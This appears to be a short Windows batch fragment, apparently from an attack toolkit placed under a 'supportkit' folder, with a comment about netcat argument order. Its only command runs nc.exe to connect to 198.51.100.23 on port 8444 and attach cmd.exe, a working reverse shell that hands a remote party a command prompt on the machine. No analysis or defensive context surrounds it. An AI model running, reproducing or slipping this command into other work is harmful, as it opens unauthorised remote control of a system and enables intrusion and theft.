REM older kit: netcat takes the program last
C:\ProgramData\supportkit\nc.exe 198.51.100.23 8444 -e C:\Windows\System32\cmd.exe
